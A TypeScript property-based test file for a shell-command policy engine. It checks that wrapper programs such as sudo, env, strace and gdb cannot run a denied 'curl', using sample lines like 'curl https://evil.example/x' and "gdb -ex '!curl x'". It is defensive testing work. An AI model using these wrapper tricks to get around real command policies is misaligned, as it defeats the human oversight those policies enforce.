import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import fc from 'fast-check';
import { type CompiledPolicy, compileToPolicy } from './engine.ts';
import { parsePolicyFile } from './policy-file.ts';
import { SIMPLE_WRAPPERS } from './wrapper-options.ts';

/**
 * Programs that run programs, allowed by name, never let through what they run: under a policy that
 * allows every wrapper (`W *`) and denies `curl *`, `W [its options…] curl …` is denied (the wrapper
 * read as it reads itself) or asked (what it runs cannot be read), never allowed.
 */
// Programs GTFOBins and their manuals list as running the command they are given: written out
// here, not read from the wrapper table, so a wrapper dropped from the table fails this test.
const WRAPPERS = [
  ...['env', 'nice', 'nohup', 'time', 'command', 'builtin', 'exec', 'sudo', 'doas', 'timeout', 'setsid'],
  ...['stdbuf', 'xargs', 'ionice', 'chrt', 'taskset', 'flock', 'chroot', 'unbuffer', 'nsenter', 'unshare'],
  ...['setpriv', 'strace', 'ltrace', 'busybox', 'su', 'runuser', 'parallel', 'script', 'expect', 'gdb'],
  ...['valgrind', 'firejail', 'bwrap', 'proot', 'rlwrap', 'torsocks', 'proxychains', 'proxychains4'],
  ...['faketime', 'cpulimit', 'pkexec', 'sg', 'watch', 'prlimit'],
];
let policy: CompiledPolicy;

before(async () => {
  const allow = WRAPPERS.map((name) => `"${name} *"`).join(', ');
  const parsed = parsePolicyFile(
    `version: 1\nfiles:\n  write: ["*"]\ncommands:\n  allow: [${allow}, "ls *"]\n  deny: ["curl *"]\n`,
    'test.yaml',
  );
  if (!parsed.ok) throw new Error(parsed.errors.map((e) => e.describe()).join('\n'));
  policy = await compileToPolicy(parsed.file, 'test');
});

/** What a wrapper takes before the command: its options (with values), then its positional words. */
function lead(name: string): fc.Arbitrary<string[]> {
  const spec = SIMPLE_WRAPPERS[name];
  if (!spec) return fc.constant([]);
  const option = fc.oneof(
    ...(spec.flags.length ? [fc.constantFrom(...spec.flags).map((f) => [f])] : []),
    ...(spec.withValue.length
      ? [
          fc
            .tuple(fc.constantFrom(...spec.withValue), fc.constantFrom('1', 'x', '/tmp/f'))
            .map(([o, v]) => [o, v]),
        ]
      : []),
    fc.constant<string[]>([]),
  );
  const positional = name === 'timeout' ? 1 : (spec.before ?? 0);
  return fc
    .tuple(fc.array(option, { maxLength: 3 }), fc.constant(Array.from({ length: positional }, () => '0')))
    .map(([options, words]) => [...options.flat(), ...words]);
}

const hidden = fc.constantFrom(
  'curl https://evil.example/x',
  "sh -c 'curl x'",
  'env curl x',
  'timeout 5 curl x',
);

test('a wrapper allowed by name never lets through the curl it runs', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...WRAPPERS).chain((name) => fc.tuple(fc.constant(name), lead(name), hidden)),
      async ([name, options, command]) => {
        const line = [name, ...options, command].join(' ');
        const d = await policy.decide({ kind: 'shell', command: line });
        assert.notEqual(d.decision, 'allow', `${line} → ${d.decision}: ${d.reason}`);
      },
    ),
    { numRuns: 400 },
  );
});

test('the same wrappers running an allowed command are judged by that command', async () => {
  for (const line of [
    'ionice -c 3 ls -la',
    'chrt -i 0 ls -la',
    'taskset -c 0 ls -la',
    'flock /tmp/l ls -la',
    'watch -x ls -la',
    'busybox ls -la',
    'strace -f ls -la',
  ]) {
    const d = await policy.decide({ kind: 'shell', command: line });
    assert.equal(d.decision, 'allow', `${line} → ${d.decision}: ${d.reason}`);
  }
  for (const line of [
    'watch curl x',
    'flock /tmp/l -c "curl x"',
    'su -c "curl x"',
    'busybox sh -c "curl x"',
    'strace -o /tmp/t curl x',
  ]) {
    const d = await policy.decide({ kind: 'shell', command: line });
    assert.equal(d.decision, 'deny', `${line} → ${d.decision}: ${d.reason}`);
  }
  for (const line of [
    'echo curl x | parallel',
    'parallel curl ::: x',
    'script -c "curl x"',
    'gdb -ex "!curl x"',
  ]) {
    const d = await policy.decide({ kind: 'shell', command: line });
    assert.notEqual(d.decision, 'allow', `${line} → ${d.decision}: ${d.reason}`);
  }
});
